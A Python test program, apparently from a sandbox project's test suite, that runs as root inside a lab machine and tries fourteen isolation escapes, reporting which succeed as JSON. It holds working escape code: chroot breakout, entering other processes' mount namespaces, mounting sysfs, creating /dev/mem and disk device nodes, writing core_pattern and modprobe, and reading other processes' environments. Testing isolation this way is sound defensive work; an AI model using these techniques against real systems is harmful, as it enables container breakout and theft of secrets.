"""A program for the machines of a lab: it tries to get out, and prints as JSON what it got.

    python3 escapes.py FILE DIRECTORY

FILE is one outside that all may read, DIRECTORY one that all may write to; both hold the word
CANARY, as does a variable in the environment of whoever started the lab. Nothing but Python's own
library: it runs as root of the machine, without mailconf.
"""

import ctypes
import glob
import json
import os
import stat
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress

CANARY = "canary-7f3a"
FILE, DIRECTORY = sys.argv[1:3] if len(sys.argv) > 2 else ("", "")
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
SEARCH, SESSION_KEYRING = 10, -3
KNOBS = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger")
LIBC = ctypes.CDLL(None, use_errno=True)


def content(path: str) -> str:
    with open(path, errors="replace") as file:
        return file.read(1 << 16)


def found(paths: Iterator[str], word: str = CANARY) -> str:
    """Return the first path in which a word is."""
    for path in paths:
        with suppress(OSError):
            if word in content(path):
                return path
    return ""


def roots() -> Iterator[str]:
    yield from ("", "/proc/1/root", "/proc/1/cwd")
    yield from glob.glob("/proc/[0-9]*/root")
    yield from glob.glob("/proc/[0-9]*/cwd")


def reads_a_file() -> str:
    return found(root + FILE for root in roots())


def reads_an_environment() -> str:
    return found(iter(glob.glob("/proc/[0-9]*/environ")))


def sees_mailconf() -> str:
    return found(iter(glob.glob("/proc/[0-9]*/cmdline")), "tests.lab.breakout")


def writes_a_file() -> str:
    for root in roots():
        with suppress(OSError):
            if CANARY in content(f"{root}{DIRECTORY}/canary"):
                with open(f"{root}{DIRECTORY}/written", "w") as file:
                    file.write("by a machine of the lab")
                return root
    return ""


def leaves_the_root() -> str:
    """Do what a root that is only a chroot lets one do: keep a directory, chroot, climb."""
    os.makedirs("/tmp/below", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/below")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return found(iter((FILE,)))


def enters_namespaces() -> str:
    for path in glob.glob("/proc/[0-9]*/ns/mnt"):
        with suppress(OSError), open(path) as handle:
            if not LIBC.setns(handle.fileno(), CLONE_NEWNS) and found(iter((FILE,))):
                return path
    return ""


def makes_a_namespace() -> str:
    return "" if LIBC.unshare(CLONE_NEWUSER) else "is root of a user namespace with everything"


def mounts() -> str:
    return mounted(b"tmpfs")


def mounts_the_kernel() -> str:
    return mounted(b"sysfs")


def mounted(kind: bytes) -> str:
    os.makedirs("/tmp/mounted", exist_ok=True)
    return "" if LIBC.mount(kind, b"/tmp/mounted", kind, 0, None) else "mounted it"


def forget(path: str) -> None:
    """Remove what an earlier run of this program has made."""
    with suppress(FileNotFoundError):
        os.unlink(path)


def makes_a_disk() -> str:
    for line in content("/proc/partitions").splitlines()[2:]:
        major, minor, _, name = line.split()
        with suppress(OSError):
            forget(f"/tmp/{name}")
            os.mknod(f"/tmp/{name}", 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
            return name
    return ""


def makes_a_device() -> str:
    forget("/tmp/mem")
    os.mknod("/tmp/mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    return "/dev/mem"


def turns_a_knob() -> str:
    for knob in KNOBS:
        with suppress(OSError):
            os.close(os.open(knob, os.O_WRONLY))
            return knob
    return ""


def types_into_the_terminal() -> str:
    return os.ttyname(os.open("/dev/tty", os.O_RDWR))


def finds_a_key() -> str:
    """Search the session's keyring as the lab's starter has it (x86-64 only)."""
    key = LIBC.syscall(250, SEARCH, SESSION_KEYRING, b"user", CANARY.encode(), 0)
    return f"key {key}" if key > 0 else ""


ATTEMPTS: tuple[Callable[[], str], ...] = (
    reads_a_file,
    reads_an_environment,
    sees_mailconf,
    writes_a_file,
    enters_namespaces,
    makes_a_namespace,
    mounts,
    makes_a_disk,
    makes_a_device,
    turns_a_knob,
    types_into_the_terminal,
    finds_a_key,
    mounts_the_kernel,
    leaves_the_root,
)


def tried(attempt: Callable[[], str]) -> str:
    """Return what an attempt got, from a process of its own: some change what they run in."""
    read, write = os.pipe()
    if not os.fork():
        with suppress(OSError):
            os.write(write, attempt().encode())
        os._exit(0)
    os.close(write)
    os.wait()
    return os.read(read, 4096).decode()


def main() -> None:
    sys.stdout.write(json.dumps({attempt.__name__: tried(attempt) for attempt in ATTEMPTS}))


if __name__ == "__main__":
    main()
